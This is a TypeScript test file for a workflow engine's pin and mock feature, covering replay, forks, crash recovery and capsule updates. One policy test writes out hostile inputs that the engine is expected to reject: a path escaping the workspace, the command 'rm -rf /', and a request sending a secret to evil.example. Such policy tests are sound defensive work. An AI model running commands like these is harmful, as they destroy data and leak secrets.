import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { capsuleText } from '#main/capsule/capsule-text.ts';
import { makeCapsule } from '#main/capsule/make-capsule.ts';
import { updateCapsule } from '#main/capsule/update-capsule.ts';
import type { Tool } from '#main/engine/ports/tool.ts';
import { RunReader } from '#main/journal/run-reader.ts';
import { compareRuns } from '#main/time-travel/compare.ts';
import { makeFork, planFork } from '#main/time-travel/fork.ts';
import { replayRun } from '#main/time-travel/replay.ts';
import { defaultSettings } from '#main/workspace/settings.ts';
import type { Supplied } from '#shared/contract/supplied.ts';
import type { Json } from '#shared/json.ts';
import type { RunEventOf } from '#shared/run/event.ts';
import type { DriveResult } from './drive-result.ts';
import { RunExecutor } from './run-executor.ts';
import { summaryOf, timelineOf } from './run-views.ts';
import { documentOf, TestWorkspace } from './testing.ts';

let space: TestWorkspace;
let calls: Json[];
const flow = 'test.flow.json';
beforeEach(() => {
  space = new TestWorkspace();
  calls = [];
});
afterEach(() => space.remove());

const tool = (name: string, effect: Tool['effect']): Tool => ({
  name,
  description: name,
  input_schema: { type: 'object', properties: { n: {} } },
  output_schema: { type: 'object', required: ['sent'] },
  effect,
  approve: effect === 'write' ? 'always' : 'never',
  call: (input) => {
    calls.push(input);
    return { sent: 'really' };
  },
});
/** A tool that writes, so an agent's call asks; one that reads; and one without effects, whose calls are not on record. */
const tools = [tool('send', 'write'), tool('count', 'read'), tool('add', 'none')];

async function start(document: Json, input: Json, supplied: readonly Supplied[]): Promise<RunExecutor> {
  const executor = await space.start(document, input, tools);
  executor.setSupplied(supplied);
  return executor;
}

async function ran(
  document: Json,
  supplied: readonly Supplied[],
  input: Json = { n: 1 },
): Promise<DriveResult & { readonly runId: string }> {
  const executor = await start(document, input, supplied);
  return { ...(await executor.continue()), runId: executor.runId };
}

const pin = (node: string, value: Json, more: Partial<Supplied> = {}) =>
  ({ id: `pin-${node}`, kind: 'pin', flow, node, value, ...more }) as Supplied;
const mock = (name: string, rules: readonly object[], more: object = {}) =>
  ({ id: `mock-${name}`, kind: 'tool', tool: name, rules, ...more }) as Supplied;

const replay = (runId: string) =>
  replayRun(space.journal, runId, 'recorded', { folder: space.folder, trusted: false, settings: defaultSettings });
const timeline = (runId: string) => timelineOf(space.journal, runId, 1, 100).entries;
const summary = (runId: string) => summaryOf(space.journal, space.journal.row(runId), 0);

const chain = documentOf('A', 'C', [
  { kind: 'work', from: 'A', to: 'B', expr: '{n: n + 1}' },
  { kind: 'work', from: 'B', to: 'C', expr: '{n: n * 10}' },
]);

describe('a pin', () => {
  test('takes the place of what a node produces, is on record, and is not recomputed by a replay', async () => {
    const from = { run_id: 'other', seq: 4 };
    const { output, runId } = await ran(chain, [pin('A', { n: 40 }, { from })]);
    expect(output).toEqual({ n: 400 });
    expect(timeline(runId)).toMatchObject([{ node: 'A', supplied: { by: 'pin', id: 'pin-A', from } }, { node: 'B' }]);
    expect(timeline(runId)[1]).not.toHaveProperty('supplied');
    // Recorded like an effect: never computed again.
    expect(space.journal.database.prepare('SELECT pure FROM steps ORDER BY seq').all()).toEqual([{ pure: 0 }, { pure: 1 }]);
    expect(summary(runId).supplied).toBe(1);
    const exits = space.events.filter((event): event is RunEventOf<'node_exit'> => event.type === 'node_exit');
    expect(exits.map(({ node, supplied }) => [node, supplied?.id])).toEqual([
      ['A', 'pin-A'],
      ['B', undefined],
    ]);
    const recorded = [...new RunReader(space.journal, space.journal.row(runId)).events()].filter(({ type }) => type === 'node_exit');
    expect(recorded[0]).toMatchObject({ supplied: { by: 'pin', id: 'pin-A', from } });
    expect(await replay(runId)).toMatchObject({
      divergence: null,
      notes: ['A was supplied by the pin pin-A: its recorded output was used.'],
    });
  });

  test('goes the branch of an either node that it names', async () => {
    const either = documentOf('A', 'D', [
      { kind: 'either', from: 'A', to: ['B', 'C'], expr: 'n > 0' },
      { kind: 'work', from: 'B', to: 'D', expr: '"left"' },
      { kind: 'work', from: 'C', to: 'D', expr: '"right"' },
    ]);
    const went = await ran(either, [pin('A', { n: 5 }, { branch: 'C' })]);
    expect([went.output, (await replay(went.runId)).divergence]).toEqual(['right', null]);
    expect((await ran(either, [pin('A', { n: 5 }, { branch: 'X' })])).error?.message).toContain('the branches are B and C');
  });

  test('gives every branch of a fork its own value', async () => {
    const fork = documentOf('A', 'D', [
      { kind: 'fork', from: 'A', to: ['B', 'C'] },
      { kind: 'join', from: ['B', 'C'], to: 'D' },
    ]);
    expect((await ran(fork, [pin('A', { B: { left: 1 }, C: { right: 2 } })])).output).toEqual({ left: 1, right: 2 });
  });

  test('answers in the place of a suspend node and of an agent, which is not called', async () => {
    const waits = documentOf('A', 'C', [
      { kind: 'suspend', from: 'A', to: 'B' },
      { kind: 'agent', from: 'B', to: 'C', agent: { model: 'script://missing.json' } },
    ]);
    const { output, runId } = await ran(waits, [pin('A', { n: 2 }), pin('B', { text: 'pinned' })]);
    expect(output).toEqual({ text: 'pinned' });
    expect((await replay(runId)).divergence).toBeNull();
  });

  test('holds inside a nested flow, in every item, and for whole lists and nested flows', async () => {
    space.write('item.flow.json', chain);
    const list = { type: 'array', items: {} };
    const nested = (kind: 'each' | 'flow') => ({
      ...(documentOf(
        'A',
        'C',
        [{ kind, ...(kind === 'each' && { from: 'A', to: 'C' }), flow: './item.flow.json' }].map((node) => ({
          from: 'A',
          to: 'C',
          ...node,
        })),
      ) as object),
      schemas: kind === 'each' ? { A: list, C: list } : { A: {}, C: {} },
    });
    const inner = { ...pin('A', { n: 7 }), flow: 'item.flow.json' } as Supplied;
    const each = nested('each') as Json;
    const items = await ran(each, [inner], [{ n: 1 }, { n: 2 }]);
    expect([items.output, (await replay(items.runId)).divergence]).toEqual([[{ n: 70 }, { n: 70 }], null]);
    expect(timeline(items.runId).map(({ node, supplied }) => [node, supplied?.id])).toEqual(
      [
        ['A[0]::A', 'pin-A'],
        ['A[0]::A::B', undefined],
        ['A[1]::A', 'pin-A'],
        ['A[1]::A::B', undefined],
        ['A', undefined],
      ].map(([node, id]) => [node?.replace('A::B', 'B'), id]),
    );
    const whole = await ran(each, [pin('A', [1])], [{ n: 1 }, { n: 2 }]);
    expect([whole.output, timeline(whole.runId).length, (await replay(whole.runId)).divergence]).toEqual([[1], 1, null]);
    const { kind: _kind, from: _from, to: _to, ...only } = { kind: '', from: '', to: '' };
    const flowNode = {
      pravah: 1,
      name: 'Outer',
      input: 'A',
      output: 'C',
      schemas: { A: {}, C: {} },
      nodes: [{ kind: 'flow', flow: './item.flow.json', ...only }],
    };
    const outer = await ran(flowNode, [pin('A', 'all of it')]);
    expect([outer.output, timeline(outer.runId).length, (await replay(outer.runId)).divergence]).toEqual(['all of it', 1, null]);
    expect((await ran(flowNode, [inner])).output).toEqual({ n: 70 });
  });

  test('disables a node, which then gives on what it consumes', async () => {
    const { output, runId } = await ran(chain, [{ id: 'off', kind: 'pin', flow, node: 'A', disabled: true }]);
    expect([output, timeline(runId)[0]?.supplied?.id]).toEqual([{ n: 10 }, 'off']);
  });

  test('that does not fit the schema fails the step and says which', async () => {
    const typed = { ...(chain as object), schemas: { A: {}, B: { type: 'object', required: ['n'] }, C: {} } } as Json;
    const { status, error } = await ran(typed, [pin('A', 'text')]);
    expect([status, error?.variant]).toEqual(['error', 'SerializeError']);
    expect(error?.message).toMatch(/^The pin pin-A doesn't fit: .*Change or remove the pin\.$/);
  });

  test('set while the run is paused counts from then on, and does not change what was recorded', async () => {
    const executor = await start(chain, { n: 1 }, []);
    await executor.continue(1);
    executor.setSupplied([pin('A', { n: 99 }), pin('B', 'pinned')]);
    expect((await executor.continue()).output).toBe('pinned');
    expect(timeline(executor.runId).map(({ supplied }) => supplied?.id)).toEqual([undefined, 'pin-B']);
  });

  test('that is off supplies nothing, and such a run is not marked', async () => {
    const { output, runId } = await ran(chain, [pin('A', { n: 40 }, { enabled: false })]);
    expect([output, summary(runId).supplied]).toEqual([{ n: 20 }, undefined]);
  });
});

const agentOf = (turns: readonly object[]): Json => {
  space.write('turns.json', { turns } as unknown as Json);
  return documentOf('A', 'B', [
    { kind: 'agent', from: 'A', to: 'B', agent: { model: 'script://turns.json', tools: ['send', 'count', 'add', 'write_file'] } },
  ]);
};

describe('a mock', () => {
  test("answers an agent's calls without asking, and its calls are on record", async () => {
    const agent = agentOf([
      {
        tool_calls: [
          { tool: 'send', input: { n: 1 } },
          { tool: 'add', input: { n: 2 } },
        ],
      },
      { output: 'done' },
    ]);
    const rules = [{ when: 'call.input.n === 1', result: { sent: 'mocked' } }];
    const { status, runId } = await ran(agent, [mock('send', rules), mock('add', [{ result: { sent: 2 } }])]);
    expect([status, calls]).toEqual(['success', []]);
    expect(timeline(runId).map(({ mocked }) => mocked)).toEqual([undefined, 2, undefined, undefined]);
    const results = space.events.filter((event): event is RunEventOf<'tool_result'> => event.type === 'tool_result');
    expect(results.map(({ tool_name, result, supplied }) => [tool_name, result, supplied])).toEqual([
      ['send', { sent: 'mocked' }, { by: 'mock', id: 'mock-send' }],
      ['add', { sent: 2 }, { by: 'mock', id: 'mock-add' }],
      ['submit', 'The result was accepted.', undefined],
    ]);
    expect(summary(runId).supplied).toBe(2);
    const { divergence, notes } = await replay(runId);
    expect([divergence, notes]).toEqual([
      null,
      [
        'send, called by A, was supplied by the mock mock-send: its recorded result was used.',
        'add, called by A, was supplied by the mock mock-add: its recorded result was used.',
      ],
    ]);
  });

  test('without a matching rule refuses the call, unless it says to make it', async () => {
    const call = documentOf('A', 'B', [{ kind: 'work', from: 'A', to: 'B', tool: 'count', with: { n: '{n}' } }]);
    const rules = [{ when: 'call.input.n > 5', result: { sent: 'mocked' } }];
    const refused = await ran(call, [mock('count', rules)]);
    expect([refused.error?.variant, calls]).toEqual(['Missing', []]);
    expect(refused.error?.message).toContain('no rule of the mock mock-count of count matches the call');
    const made = await ran(call, [mock('count', rules, { otherwise: 'call' })]);
    expect([made.output, calls, summary(made.runId).supplied]).toEqual([{ sent: 'really' }, [{ n: 1 }], undefined]);
  });

  test('gives an error or a late result, and its failing rule refuses the call', async () => {
    const call = documentOf('A', 'B', [{ kind: 'work', from: 'A', to: 'B', tool: 'send', with: {} }]);
    expect((await ran(call, [mock('send', [{ error: { variant: 'Http', message: 'is down' } }])])).error).toMatchObject({
      variant: 'Http',
      message: 'is down',
    });
    expect((await ran(call, [mock('send', [{ when: 'call.input.x > 1', result: {} }])])).error?.message).toContain(
      'rule 1 of the mock mock-send of send failed',
    );
    expect((await ran(call, [mock('send', [{ delay_ms: 1, result: { sent: 'late' } }])])).output).toEqual({ sent: 'late' });
    expect((await ran(call, [mock('send', [{ result: 'another form' }])])).error?.variant).toBe('Serialize');
  });

  test('never lets through what the policy refuses', async () => {
    const paths = documentOf('A', 'B', [
      { kind: 'work', from: 'A', to: 'B', tool: 'write_file', with: { path: '../outside.txt', content: 'x' } },
    ]);
    const command = documentOf('A', 'B', [
      { kind: 'work', from: 'A', to: 'B', tool: 'run_command', with: { command: 'rm', args: ['-rf', '/'] } },
    ]);
    const secret = documentOf('A', 'B', [
      { kind: 'work', from: 'A', to: 'B', tool: 'http_request', with: { url: 'https://evil.example/', headers: { key: '{secret:KEY}' } } },
    ]);
    const all = ['write_file', 'run_command', 'http_request'].map((name) => mock(name, [{ result: { status: 200 } }]));
    const variants = await Promise.all([paths, command, secret].map(async (document) => (await ran(document, all)).error?.variant));
    expect(variants).toEqual(['PathEscape', 'ForbiddenCommand', 'Denied']);
  });

  test('answers ctx.tools, a flow called as a tool, and the nodes inside of one', async () => {
    const code = documentOf('A', 'B', [
      { kind: 'work', from: 'A', to: 'B', run: 'async (a, ctx) => ctx.tools.send({n: a.n})', tools: ['send'] },
    ]);
    const coded = await ran(code, [mock('send', [{ result: { sent: 'mocked' } }])]);
    expect([coded.output, (await replay(coded.runId)).divergence]).toEqual([{ sent: 'mocked' }, null]);
    space.write('item.flow.json', chain);
    const caller = documentOf('A', 'B', [{ kind: 'work', from: 'A', to: 'B', tool: 'flow:./item.flow.json', with: { n: '{n}' } }]);
    const called = await ran(caller, [mock('flow:./item.flow.json', [{ result: 'instead' }])]);
    expect([called.output, (await replay(called.runId)).divergence]).toEqual(['instead', null]);
    const inside = await ran(caller, [{ ...pin('A', { n: 3 }), flow: 'item.flow.json' } as Supplied]);
    expect([inside.output, summary(inside.runId).supplied, (await replay(inside.runId)).divergence]).toEqual([{ n: 30 }, 1, null]);
  });

  test('answers a model, by turn, and its calls are made', async () => {
    const agent = agentOf([]);
    const rules = [
      { when: 'call.input.turn === 1', result: { tool_calls: [{ tool: 'count', input: { n: 1 } }] } },
      { when: 'call.input.turn === 2', result: { output: 'from the mock' } },
    ];
    const model = { id: 'm', kind: 'model', model: '*', rules, flow, node: 'A' } as Supplied;
    const { status, runId } = await ran(agent, [model]);
    expect([status, calls, summary(runId).supplied]).toEqual(['success', [{ n: 1 }], 2]);
    const answers = space.events.filter((event): event is RunEventOf<'inference_end'> => event.type === 'inference_end');
    expect(answers.map(({ supplied }) => supplied?.id)).toEqual(['m', 'm']);
    expect((await replay(runId)).divergence).toBeNull();
    const failing = await ran(agent, [{ ...model, rules: [{ error: 'overloaded' }] } as Supplied]);
    expect(failing.error).toMatchObject({ variant: 'AgentError', message: 'overloaded' });
    expect((await ran(agent, [{ ...model, node: 'Other' } as Supplied])).error?.message).toContain('script://turns.json has 0 turns');
  });

  test('changes no file, and keeps none for restoring', async () => {
    const write = documentOf('A', 'B', [{ kind: 'work', from: 'A', to: 'B', tool: 'write_file', with: { path: 'a.txt', content: 'new' } }]);
    space.write('a.txt', 'old');
    const { runId } = await ran(write, [mock('write_file', [{ result: { path: 'a.txt' } }])]);
    expect(readFileSync(join(space.folder, 'a.txt'), 'utf8')).toBe('old');
    expect(space.journal.files.changes(space.journal.row(runId))).toEqual([]);
  });
});

test('a fork inherits the marks of what came before it, and a comparison marks their lines', async () => {
  const { runId } = await ran(chain, [pin('A', { n: 40 })]);
  const plain = await ran(chain, []);
  const { steps } = compareRuns({ journal: space.journal, runId }, { journal: space.journal, runId: plain.runId });
  expect(steps.map(({ supplied, other_supplied }) => [supplied, other_supplied])).toEqual([
    [undefined, undefined],
    [true, undefined],
    [undefined, undefined],
  ]);
  const options = { folder: space.folder, trusted: false, settings: defaultSettings };
  const fork = async (of: string, seq: number, name: string) => {
    const plan = await planFork(space.journal, { run_id: of, seq, states: [], drop: [], flow: 'recorded' }, options);
    return makeFork(space.journal, plan, name, 1);
  };
  const later = await fork(runId, 1, 'later');
  expect([
    summary(later).supplied,
    summary(await fork(later, 0, 'latest')).supplied,
    summary(await fork(runId, 0, 'before')).supplied,
  ]).toEqual([1, 1, undefined]);
});

/** A run whose process ended in the second step, an act, in a call that a mock answers. `outcome`: null if it had not answered yet. */
async function crashedIn(name: string, outcome: string | null): Promise<string> {
  const agent = agentOf([{ tool_calls: [{ tool: name, input: { n: 1 } }] }, { output: 'done' }]);
  const executor = await start(agent, { n: 1 }, []);
  await executor.continue(1);
  executor.close();
  const row = space.journal.row(executor.runId);
  const id = new RunReader(space.journal, row).foldAt(1).control.agents.A?.pending[0]?.tool_call_id ?? '';
  const { database } = space.journal;
  database
    .prepare('INSERT INTO effects VALUES (?, 2, 1, ?, ?, ?, ?, ?, 0, NULL, ?)')
    .run(row.run, id, 'tool', 'A', name, '{"n":1}', outcome);
  database.prepare('INSERT INTO supplied VALUES (?, 2, 1, ?, ?)').run(row.run, id, '{"by":"mock","id":"gone"}');
  return executor.runId;
}

const reopened = async (runId: string, supplied: readonly Supplied[]) =>
  RunExecutor.open({ ...(await space.options(tools)), supplied }, runId);

describe('after a crash', () => {
  test('a call that a mock had not answered is answered by the mock', async () => {
    const runId = await crashedIn('send', null);
    const executor = await reopened(runId, [mock('send', [{ result: { sent: 'again' } }])]);
    expect([(await executor.continue()).status, calls, timeline(runId)[1]?.mocked]).toEqual(['success', [], 1]);
    expect(new RunReader(space.journal, space.journal.row(runId)).effects(2)).toMatchObject([
      { supplied: '{"by":"mock","id":"mock-send"}' },
    ]);
    expect((await replay(runId)).divergence).toBeNull();
  });

  test('a call that a mock had not answered is a real one without the mock, which asks as any', async () => {
    const runId = await crashedIn('send', null);
    const executor = await reopened(runId, []);
    expect(await executor.continue()).toMatchObject({ status: 'suspended' });
    const [question] = new RunReader(space.journal, space.journal.row(runId)).foldAt(2).control.suspensions;
    expect([question?.reason, calls]).toEqual(['approval', []]);
    const answer = { approve: true };
    await executor.resume(question?.tool_id ?? '', answer, { then_continue: true });
    expect([calls, summary(runId).status, summary(runId).supplied]).toEqual([[{ n: 1 }], 'success', undefined]);
    expect((await replay(runId)).divergence).toBeNull();
  });

  test('what a mock had answered is used again without the mock, and stays marked', async () => {
    const runId = await crashedIn('add', '{"result":{"result":{"sent":"before"}}}');
    await (await reopened(runId, [])).continue();
    expect([calls, timeline(runId).map(({ mocked }) => mocked)]).toEqual([[], [undefined, 1, undefined, undefined]]);
    expect((await replay(runId)).divergence).toBeNull();
  });
});

test('a capsule that is updated to a changed flow keeps what was supplied', async () => {
  const flowOf = (expr: string) =>
    documentOf('A', 'D', [
      { kind: 'work', from: 'A', to: 'B', run: '() => { throw new Error("it runs"); }' },
      { kind: 'work', from: 'B', to: 'C', tool: 'write_file', with: { path: 'a.txt', content: 'x' }, into: 'file' },
      { kind: 'work', from: 'C', to: 'D', expr },
    ]);
  const { runId } = await ran(flowOf('n'), [pin('A', { n: 4 }), mock('write_file', [{ result: { path: 'a.txt', bytes: 1 } }])]);
  const text = capsuleText(makeCapsule(space.journal, runId, { places: [], texts: [] }, new Map()));
  space.write(flow, flowOf('n * 2'));
  const updated = await updateCapsule(text, 'a.capsule.json', space.folder);
  expect([updated.run.output, updated.steps.map(({ supplied }) => supplied?.id), updated.steps[1]?.effects[0]?.supplied?.id]).toEqual([
    8,
    ['pin-A', undefined, undefined],
    'mock-write_file',
  ]);
});
